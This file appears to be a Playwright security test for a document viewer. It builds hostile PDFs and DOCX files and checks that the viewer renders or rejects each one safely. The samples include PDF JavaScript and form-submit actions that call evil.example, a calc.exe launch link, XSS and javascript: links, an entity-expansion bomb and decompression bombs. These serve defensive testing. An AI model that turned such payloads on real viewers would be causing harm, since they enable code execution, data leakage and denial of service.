@@ -1,0 +1,174 @@
+/** Documents of strangers at the desk: each is shown or answered by a clear sentence, whatever it is, and the desk lives on. */
+import encrypted from '../api/encryptedPdfs.json' with { type: 'json' };
+import { container, pdf, samples, stream, zip } from '../api/documentSamples.ts';
+import { applicant, signInAtDesk } from './deskMember.ts';
+import { expect, test } from './fixtures.ts';
+
+/** A PDF of pages with one line each, and whatever else the catalogue, the pages and the document have. */
+function pages(count: number, { catalogue = '', onPage = '', line = 'BT /F1 24 Tf 72 720 Td (Water bill) Tj ET', more = {} } = {}): Buffer {
+  const numbers = Array.from({ length: count }, (_, index) => 10 + index);
+  return pdf({
+    1: `<</Type/Catalog/Pages 2 0 R${catalogue}>>`,
+    2: `<</Type/Pages/Count ${count}/Kids[${numbers.map((number) => `${number} 0 R`).join(' ')}]>>`,
+    4: stream('', line),
+    5: '<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>',
+    ...Object.fromEntries(
+      numbers.map((number) => [
+        number,
+        `<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>/XObject<</X 6 0 R>>>>${onPage}>>`,
+      ]),
+    ),
+    ...more,
+  });
+}
+
+const script = '<</S/JavaScript/JS(this.getURL\\("https://evil.example"\\); app.alert\\(1\\))>>';
+const types =
+  '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>';
+const office = 'http://schemas.openxmlformats.org/officeDocument/2006';
+const word = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main';
+
+/** A DOCX. @param body - of its document */
+const docx = (body: string, relations = '', more: Readonly<Record<string, string | Buffer>> = {}): Buffer =>
+  zip({
+    '[Content_Types].xml': types,
+    '_rels/.rels': `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="${office}/relationships/officeDocument" Target="word/document.xml"/></Relationships>`,
+    'word/_rels/document.xml.rels': `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${relations}</Relationships>`,
+    'word/document.xml': `<w:document xmlns:w="${word}" xmlns:r="${office}/relationships"><w:body>${body}</w:body></w:document>`,
+    ...more,
+  });
+const paragraph = (text: string): string => `<w:p><w:r><w:t xml:space="preserve">${text}</w:t></w:r></w:p>`;
+const entities = Array.from({ length: 9 }, (_, index) => `<!ENTITY e${index + 1} "${`&e${index};`.repeat(10)}">`).join('');
+
+/** Files, each with what is seen of it: a text of the document, or of the sentence that says why it is not shown. */
+const files: readonly (readonly [title: string, extension: 'pdf' | 'docx', content: Buffer, seen: RegExp])[] = [
+  ['a script that runs at the opening', 'pdf', pages(1, { catalogue: `/OpenAction${script}` }), /Water bill/u],
+  ['a script on the page', 'pdf', pages(1, { onPage: `/AA<</O${script}>>` }), /Water bill/u],
+  [
+    'a link to a program',
+    'pdf',
+    pages(1, { onPage: '/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 595 842]/A<</S/Launch/F(calc.exe)>>>>]' }),
+    /Water bill/u,
+  ],
+  [
+    'a form that sends itself',
+    'pdf',
+    pages(1, { catalogue: '/AcroForm<</XFA(<xdp/>)/Fields[]>>/OpenAction<</S/SubmitForm/F(https://evil.example)>>' }),
+    /Water bill/u,
+  ],
+  ['2,000 pages', 'pdf', pages(2_000), /Water bill/u],
+  [
+    'a number of pages that is a lie',
+    'pdf',
+    Buffer.from(pages(1).toString('latin1').replace('/Count 1/', '/Count 2147483647/'), 'latin1'),
+    /Water bill|damaged|too long/u,
+  ],
+  ['a password', 'pdf', Buffer.from(encrypted['locked, AES 256, plain'], 'base64'), /locked with a password/u],
+  ['encryption without a password', 'pdf', Buffer.from(encrypted['harmless, AES 256, plain'], 'base64'), /1 \/ 1/u],
+  ['half of it missing', 'pdf', pages(1).subarray(0, 90), /damaged/u],
+  ['noise instead of a PDF', 'pdf', Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(50_000, 7)]), /damaged/u],
+  [
+    'a page as large as a country',
+    'pdf',
+    Buffer.from(pages(1).toString('latin1').replace('[0 0 595 842]', '[0 0 9e9 9e9]'), 'latin1'),
+    /1 \/ 1|damaged/u,
+  ],
+  [
+    'a picture that claims a thousand million pixels',
+    'pdf',
+    pages(1, {
+      line: 'q 595 0 0 842 0 0 cm /X Do Q BT /F1 24 Tf 72 720 Td (Water bill) Tj ET',
+      more: { 6: stream('/Type/XObject/Subtype/Image/Width 40000/Height 40000/BitsPerComponent 8/ColorSpace/DeviceRGB', 'x') },
+    }),
+    /Water bill/u,
+  ],
+  [
+    'a drawing that draws itself',
+    'pdf',
+    pages(1, {
+      line: 'BT /F1 24 Tf 72 720 Td (Water bill) Tj ET /X Do',
+      more: { 6: stream('/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 6 0 R>>>>', '/X Do /X Do') },
+    }),
+    /Water bill|damaged|too long/u,
+  ],
+  [
+    'a stream that inflates to 300 MB',
+    'pdf',
+    pages(1, { line: `BT /F1 24 Tf 72 720 Td (Water bill) Tj ET${' '.repeat(300_000_000)}` }),
+    /Water bill|damaged|too long/u,
+  ],
+  ['words of a Word file', 'docx', docx(paragraph('Water bill')), /Water bill/u],
+  [
+    'HTML and a script as words',
+    'docx',
+    docx(paragraph('Water bill &lt;script&gt;alert(1)&lt;/script&gt;&lt;img src=x onerror=alert(1)&gt;')),
+    /Water bill <script>/u,
+  ],
+  [
+    'a link that is a script',
+    'docx',
+    docx(
+      `<w:p><w:hyperlink r:id="r9"><w:r><w:t>Water bill</w:t></w:r></w:hyperlink></w:p>`,
+      `<Relationship Id="r9" Type="${office}/relationships/hyperlink" Target="javascript:alert(1)" TargetMode="External"/>`,
+    ),
+    /Water bill/u,
+  ],
+  [
+    'entities that grow without end',
+    'docx',
+    zip({
+      '[Content_Types].xml': types,
+      'word/document.xml': `<!DOCTYPE d [<!ENTITY e0 "boom">${entities}]><w:document xmlns:w="${word}"><w:body>${paragraph('&e9;')}</w:body></w:document>`,
+    }),
+    /damaged|too long/u,
+  ],
+  [
+    'an archive that inflates to 300 MB',
+    'docx',
+    docx(paragraph('Water bill'), '', { 'word/styles.xml': Buffer.alloc(300_000_000, 32) }),
+    /Water bill|damaged|too long/u,
+  ],
+  ['an archive without a document', 'docx', zip({ 'a.txt': 'x' }), /damaged/u],
+  ['another container', 'docx', container({ EncryptedPackage: 'x' }), /damaged/u],
+];
+
+test('each hostile document is shown or answered by a sentence, runs nothing, and leaves the desk alive', async ({
+  page,
+  request,
+  problems,
+}) => {
+  test.setTimeout(240_000);
+  problems.expect(/./u);
+  await signInAtDesk(page);
+  const proof = { name: 'bill.pdf', mimeType: 'application/pdf', buffer: samples.pdf.content };
+  const { id } = await applicant(request, `Hake & Daughters ${Date.now()}`, { 'business.proofAddress1': proof });
+  const strangers: string[] = [];
+  page.on('request', (sent) => void (sent.url().includes('evil.example') && strangers.push(sent.url())));
+  page.on('dialog', (dialog) => void (strangers.push(dialog.message()), dialog.dismiss()));
+  let file = files[0]!;
+  await page.route('**/content?view=true', (route) => route.fulfill({ body: file[2], contentType: 'application/octet-stream' }));
+  await page.route(`**/desk/api/accounts/${id}`, async (route) => {
+    const answer = await route.fetch();
+    const account = (await answer.json()) as { files: { fileName: string }[] };
+    account.files[0]!.fileName = `bill.${file[1]}`;
+    await route.fulfill({ response: answer, json: account });
+  });
+  for (file of files) {
+    await test.step(file[0], async () => {
+      await page.goto(`/desk/accounts/${id}`);
+      await page.getByRole('button', { name: /^Show bill/u }).click();
+      // The frame of a Word file takes the place of the one that read it.
+      const drawn = () =>
+        page
+          .frameLocator('iframe')
+          .locator('body')
+          .allInnerTexts()
+          .catch(() => []);
+      const seen = async () => [...(await drawn()), await page.getByRole('main').innerText()];
+      await expect.poll(async () => file[3].test((await seen()).join(' ')), { timeout: 60_000 }).toBe(true);
+      await page.getByRole('button', { name: 'Close', exact: true }).click();
+      await expect(page.getByRole('button', { name: 'Approve' })).toBeEnabled();
+    });
+  }
+  expect(strangers).toEqual([]);
+});
